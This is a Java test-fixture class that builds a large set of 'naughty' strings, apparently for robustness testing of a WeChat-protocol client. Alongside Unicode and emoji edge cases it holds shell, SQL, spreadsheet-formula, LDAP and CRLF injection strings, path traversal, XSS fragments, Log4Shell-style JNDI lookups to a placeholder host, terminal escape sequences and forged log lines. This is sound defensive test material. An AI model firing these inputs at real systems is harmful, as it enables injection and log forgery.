package io.wxflux.hostile;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * Texts that programs trip over, as people may type them or use them for names. Made here, by rule, and not taken from any
 * published list.
 */
public final class NaughtyTexts {
    private static final String CSI = "\u001b[";

    private NaughtyTexts() {}

    /** All that are Unicode text: these survive UTF-8. Each occurs once. */
    public static List<String> all() {
        Set<String> all = new LinkedHashSet<>();
        controls(all);
        invisible(all);
        blanks(all);
        scripts(all);
        emoji(all);
        markup(all);
        commands(all);
        templates(all);
        terminals(all);
        numbersAndWords(all);
        ofTheProtocol(all);
        lengths(all);
        all.remove("");
        return List.copyOf(all);
    }

    /** Not Unicode text: halves of surrogate pairs. */
    public static List<String> halves() {
        return List.of(
                "\ud83d",
                "\ude00",
                "\ude00\ud83d",
                "a\ud83db",
                "\ud83d\ud83d\ude00",
                "\ud83d\ude00\ude00",
                "\udbff",
                "\udc00x",
                "x\ud800");
    }

    private static void controls(Set<String> all) {
        for (int c = 1; c < 0xa0; c++) {
            if (c < ' ' || c >= 0x7f) {
                all.add("a" + (char) c + "b");
            }
        }
        all.add("a\0b");
        all.add("line\nline");
        all.add("\n\n");
        all.add("tab\ttab");
        all.add("page\fpage");
        all.add("bell\u0007bell");
        all.add("back\b\b\bspace");
    }

    /** Everything that is not seen, or moves what is. */
    private static void invisible(Set<String> all) {
        int[] points = {
            0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202b,
            0x202c, 0x202d, 0x202e, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x2066, 0x2067, 0x2068, 0x2069, 0x206a,
            0x206f, 0x3164, 0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffa, 0xfffb, 0xfffc, 0xfffd, 0xfdd0, 0xe000,
            0xf8ff, 0x1d173, 0xe0001, 0xe0020, 0xe007f, 0xe0100, 0xf0000, 0x10ffff, 0x1ffff, 0x2fffe
        };
        for (int point : points) {
            String odd = Character.toString(point);
            all.add("a" + odd + "b");
            all.add(odd);
            all.add(odd.repeat(3) + "end");
        }
        all.add("photo\u202egpj.exe");
        all.add("\u202eright to left\u202c and back");
        all.add("\u2066isolated\u2069 \u2067the other way\u2069");
        all.add("never closed \u202d\u202e\u202b");
    }

    private static void blanks(Set<String> all) {
        int[] points = {
            0x20, 0x85, 0xa0, 0x1680, 0x2000, 0x2001, 0x2002, 0x2003, 0x2004, 0x2005, 0x2006, 0x2007, 0x2008, 0x2009,
            0x200a, 0x2028, 0x2029, 0x202f, 0x205f, 0x3000
        };
        for (int point : points) {
            String blank = Character.toString(point);
            all.add("x" + blank + "y");
            all.add("x" + blank.repeat(5) + "y");
        }
    }

    private static void scripts(Set<String> all) {
        String[] words = {
            "早上好，世界",
            "漢字與简体字",
            "𠜎𠜱𠝹𠱓𡃁",
            "ひらがなとカタカナ",
            "ｶﾞｷﾞｸﾞ",
            "안녕하세요",
            "\u1112\u1161\u11ab\u1100\u1173\u11af",
            "مرحبا بالعالم",
            "שלום עולם",
            "abc אבג def",
            "ABC 123 مرحبا 456",
            "สวัสดีชาวโลก",
            "नमस्ते दुनिया",
            "வணக்கம்",
            "ⲁⲃⲅ",
            "Ꙁѣлⱁ",
            "ǅ ǆ ß ẞ ſ ı İ",
            "ﬁ ﬂ ﬀ ﬃ",
            "①②③ ⅷ ½ ㎏ ㈱",
            "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝓈𝒸𝓇𝒾𝓅𝓉",
            "ｆｕｌｌ　ｗｉｄｔｈ",
            "ᏣᎳᎩ ᓀᐦᐃᔭᐍ",
            "꧁꧂ ༺༻",
            "√∞≠≤ ∑∫∂",
            "♚♛ ♠♥ ☃ ☠",
            "¡¿ «» ‹› “” ‘’ …",
            "e\u0301 é",
            "A\u030a Å Å",
            "o\u0308\u0323 o\u0323\u0308"
        };
        all.addAll(List.of(words));
        for (String word : words) {
            all.add("x" + word + "y");
            all.add(new StringBuilder(word).reverse().toString());
        }
        StringBuilder piled = new StringBuilder();
        for (int c = 0x300; c < 0x34f; c++) {
            piled.append("z").append((char) c).append((char) (c + 1));
        }
        all.add(piled.toString());
        all.add("z" + "\u0335".repeat(200));
        for (int plane = 0; plane < 3; plane++) {
            for (int c = 0x10000 * plane + 0x1234; c < 0x10000 * (plane + 1) - 0x3000; c += 0x1357) {
                if (Character.isDefined(c) && Character.getType(c) != Character.SURROGATE) {
                    all.add("u" + Character.toString(c));
                }
            }
        }
    }

    private static void emoji(Set<String> all) {
        String[] shown = {
            "😀",
            "👍🏽",
            "👨‍👩‍👧‍👦",
            "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
            "🇨🇳🇺🇸",
            "1️⃣#️⃣*️⃣",
            "❤️",
            "❤",
            "☺︎",
            "🧑🏿‍🚀",
            "👩‍❤️‍💋‍👨",
            "🫠🫨",
            "🏳️‍🌈",
            "🐦‍⬛",
            "©®™",
            "[微笑][捂脸]",
            "[旺柴]",
            "/::)",
            "🇨",
            "\u200d😀",
            "😀\u200d",
            "👍\ufe0e"
        };
        for (String one : shown) {
            all.add(one);
            all.add("a" + one + "b" + one + "c");
        }
        all.add("😀".repeat(100));
    }

    private static void markup(Set<String> all) {
        String[] tags = {
            "<br/>",
            "<br>",
            "&lt;br/&gt;",
            "&amp;lt;",
            "&amp;amp;amp;",
            "&",
            "&;",
            "&#",
            "&#;",
            "&#0;",
            "&#x1f600;",
            "&#128512;",
            "&nbsp;",
            "&unknown;",
            "&quot;&apos;&#39;",
            "<",
            ">",
            "<>",
            "</>",
            "< b >",
            "<b",
            "b>",
            "<![CDATA[x]]>",
            "]]>",
            "<!-- x -->",
            "<!DOCTYPE html>",
            "<?xml version=\"1.0\"?>",
            "<?php echo 1; ?>",
            "<msg/>",
            "<msg><appmsg/></msg>",
            "<sysmsg type=\"revokemsg\"></sysmsg>",
            "<span class=\"emoji emoji1f600\"></span>",
            "<span class=\"emoji emoji\"></span>",
            "<span class=\"emoji emojizzzz\"></span>",
            "&lt;span class=&quot;emoji emoji1f600&quot;&gt;&lt;/span&gt;",
            "<img class=\"qqemoji qqemoji0\" src=\"x\">",
            "<svg/onload=x>",
            "\"><b>",
            "'><b>",
            "<a href=\"javascript:x\">",
            "<style>*{display:none}</style>",
            "<iframe src=//host.example>",
            "<b/x=\u0000>",
            "<B>",
            "<scr\u0000ipt>",
            "<plaintext>",
            "<math><mi//",
            "</title><b>"
        };
        for (String tag : tags) {
            all.add(tag);
            all.add("a" + tag + "b");
        }
        all.add("<".repeat(500));
        all.add("&amp;".repeat(200));
    }

    /** What other programs would carry out. */
    private static void commands(Set<String> all) {
        String[] lines = {
            "$(id)",
            "`id`",
            "; id",
            "| id",
            "&& id",
            "|| id",
            "> /tmp/x",
            "$HOME",
            "${HOME}",
            "%PATH%",
            "!!",
            "~",
            "*",
            "?",
            "[a-z]",
            "-rf",
            "--help",
            "-",
            "--",
            "' OR '1'='1",
            "'; DROP TABLE t; --",
            "\" OR \"\"=\"",
            "1; SELECT 1",
            "' UNION SELECT 1 --",
            "\\'; x",
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "=cmd|' /C x'!A0",
            "\t=1+1",
            "../../etc/hostname",
            "..\\..\\x",
            "/etc/hostname",
            "C:\\con\\con",
            "\\\\host\\share",
            "file:///etc/hostname",
            "http://127.0.0.1/",
            "http://[::1]/",
            "javascript:x",
            "data:text/html,x",
            "//host.example/x",
            "{\"a\":1}",
            "[1,2",
            "\"",
            "'",
            "\\",
            "\\\\",
            "\\\"",
            "\\n",
            "\\u0041",
            "\\x41",
            "\\0",
            "\"}]}",
            "null",
            "\"null\"",
            "*)(uid=*",
            "admin)(&)",
            "a\r\nSet-Cookie: x=1",
            "a\r\n\r\nHTTP/1.1 200 OK",
            "a\nHost: x",
            "a\rb",
            "%0d%0aX: y",
            "%00",
            "%2e%2e%2f",
            "%c0%ae",
            "%",
            "%%",
            "%zz",
            "a%20b",
            "a+b",
            "a&b=c#d?e"
        };
        all.addAll(List.of(lines));
    }

    private static void templates(Set<String> all) {
        String[] inner = {
            "jndi:ldap://host.example/a", "env:HOME", "sys:user.home", "7*7", "wxid", "lower:j", "x:-y", ""
        };
        for (String text : inner) {
            all.add("${" + text + "}");
            all.add("#{" + text + "}");
            all.add("%{" + text + "}");
            all.add("{{" + text + "}}");
            all.add("{%" + text + "%}");
            all.add("<%=" + text + "%>");
            all.add("$\\{" + text + "}");
        }
        all.add("${${lower:j}ndi:${lower:l}dap://host.example/a}");
        all.add("${${::-j}${::-n}${::-d}${::-i}:x}");
        String[] formats = {
            "%s",
            "%n",
            "%d",
            "%x%x%x%x",
            "%1$s",
            "%99999999s",
            "%.*f",
            "{}",
            "{} {} {}",
            "{0}",
            "{-1}",
            "{0,number,x}",
            "\\{}",
            "'{'",
            "$1",
            "$&",
            "\\1",
            "%m%n",
            "%X{x}",
            "%ex",
            "%thread",
            "${:-}",
            "@{x}",
            "[[x]]",
            "~~~",
            "```x```",
            "*x* _y_",
            "@all",
            "@everyone"
        };
        all.addAll(List.of(formats));
    }

    /** What a terminal, or the reader of a log, would be taken in by. */
    private static void terminals(Set<String> all) {
        String[] sequences = {
            CSI + "31mred" + CSI + "0m",
            CSI + "2J" + CSI + "H",
            CSI + "1A" + CSI + "2K",
            CSI + "?25l",
            CSI + "6n",
            CSI + "20t",
            CSI + "5i",
            "\u001bc",
            "\u001b]0;title\u0007",
            "\u001b]8;;http://host.example/\u001b\\link\u001b]8;;\u001b\\",
            "\u001b]52;c;eA==\u0007",
            "\u001bP+q544e\u001b\\",
            "\u001b_x\u001b\\",
            "\u001b^x\u001b\\",
            "\u009b31mred",
            "\u009d0;title\u009c",
            "\u0090x\u009c",
            "\u001b",
            "\u001b[",
            CSI + "9".repeat(500) + "m",
            "\u000e\u000f",
            "\b \b".repeat(20),
            "\r" + "x".repeat(20),
            "ok\n2026-01-01 00:00:00.000 INFO  io.wxflux.account - account forged: signed in",
            "ok\r\n2026-01-01 00:00:00.000 ERROR io.wxflux - forged",
            "ok\u2028forged",
            "ok\u0085forged",
            "ok\u000bforged",
            "{\"level\":\"ERROR\",\"message\":\"forged\"}"
        };
        for (String sequence : sequences) {
            all.add(sequence);
            all.add("a" + sequence + "b");
        }
    }

    private static void numbersAndWords(Set<String> all) {
        String[] words = {
            "0",
            "-0",
            "00",
            "+1",
            "1e999",
            "1E-999",
            "0x10",
            "0b1",
            "017",
            "1_000",
            "1,000",
            "1.",
            ".5",
            "NaN",
            "Infinity",
            "-Infinity",
            "1/0",
            "2147483648",
            "-2147483649",
            "9007199254740993",
            "9223372036854775808",
            "18446744073709551616",
            "99999999999999999999999999",
            "1.7976931348623159e308",
            "١٢٣",
            "１２３",
            "undefined",
            "nil",
            "None",
            "true",
            "false",
            "TRUE",
            "yes",
            "off",
            "NULL",
            "(null)",
            "void",
            "this",
            "__proto__",
            "constructor",
            "hasOwnProperty",
            "toString",
            "class",
            "con",
            "aux",
            "nul",
            "COM1",
            "LPT1.txt",
            "Scunthorpe",
            "Penistone",
            "O'Brien",
            "van der Berg",
            "X Æ A-12",
            "Test",
            "root",
            "admin"
        };
        all.addAll(List.of(words));
    }

    /** What the protocol itself could take for something else. */
    private static void ofTheProtocol(Set<String> all) {
        String[] texts = {
            "@all hello",
            "@\u2005",
            "@a\u2005@b\u2005",
            "wxid_abc:\nhello",
            "wxid_abc:<br/>hello",
            "@0a1b2c3d:<br/>hello",
            "filehelper",
            "newsapp,fmessage",
            "a,b,c",
            "12345@chatroom:\n<msg/>",
            "@crypt_0a_b",
            "「a：b」\n- - - - - - - - - - - - - - -\nc",
            "「",
            "」\n- - -",
            "window.code=200;",
            "window.synccheck={retcode:\"1100\",selector:\"0\"}",
            "/cgi-bin/mmwebwx-bin/webwxgetpubliclinkimg?x",
            "place:\n/cgi-bin/mmwebwx-bin/webwxgetpubliclinkimg?url=x",
            "\"a\"撤回了一条消息",
            "收到红包，请在手机上查看",
            "<a href=\"weixin://x\">x</a>"
        };
        all.addAll(List.of(texts));
    }

    private static void lengths(Set<String> all) {
        all.add("long ".repeat(400));
        all.add("汉".repeat(2_000));
        all.add("\n".repeat(300));
        all.add("a\u0301".repeat(700));
        List<Character> every = new ArrayList<>();
        for (char c = ' '; c < 0x7f; c++) {
            every.add(c);
        }
        StringBuilder ascii = new StringBuilder();
        every.forEach(ascii::append);
        all.add(ascii.toString());
    }
}
